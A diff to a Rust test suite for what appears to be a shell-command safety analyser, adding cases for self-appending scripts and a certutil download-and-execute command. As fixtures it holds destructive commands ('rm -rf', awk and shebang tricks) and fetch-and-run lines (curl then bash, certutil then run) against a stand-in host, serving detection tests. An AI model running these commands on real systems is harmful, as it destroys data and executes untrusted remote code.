@@ -78,6 +78,8 @@ const THERE: &[(&str, There)] = &[
     ("/w/bash_env", Text("rm -rf /w/out\n")),
     ("/w/sub", Kind(FileKind::Directory)),
     ("/w/wheel.sh", Text("./wheel.sh\n")),
+    ("/w/grows.sh", Text("echo \"ls\" >> \"$0\"\n")),
+    ("/w/tees.sh", Text("echo ls | tee -a \"$0\"\n")),
     ("/w/k1", Text("#!/bin/rm -rf\n")),
     ("/w/k2", Text("#!/usr/bin/awk -f\nBEGIN { system(\"rm -rf /w/out\") }\n")),
     ("/w/k3", Text("#!/usr/bin/env -S python3 -c 'import os; os.remove(\"/w/out\")'\n")),
@@ -324,6 +326,8 @@ fn a_file_does_what_it_holds() {
     shadowed("rm -rf /w; mv /e /w; bash /w/calm.sh");
     check("bash broken.sh", "opaque code syntax in /w/broken.sh");
     check("./wheel.sh", "opaque code nesting in /w/wheel.sh");
+    check("bash grows.sh", "opaque code changing in /w/grows.sh");
+    check("bash tees.sh", "opaque code changing in /w/tees.sh");
 }
 
 #[test]
@@ -445,6 +449,10 @@ fn what_the_call_itself_puts_there_is_what_runs() {
     check("set -C; echo 'rm -rf /w/a' > new.sh; echo ls > new.sh; bash new.sh", "delete /w/a in /w/new.sh");
     // Ways that the walk does not follow: what was read is not what runs.
     let url = "https://b.example/x";
+    check(
+        &format!("cmd /c 'certutil -urlcache -f {url} x.exe & x.exe'"),
+        &format!("download {url}; opaque program shadowed"),
+    );
     check(&format!("curl -o calm.sh {url}; bash calm.sh"), &format!("download {url}; opaque code shadowed"));
     check(
         &format!("curl -o new.sh {url}; bash new.sh"),
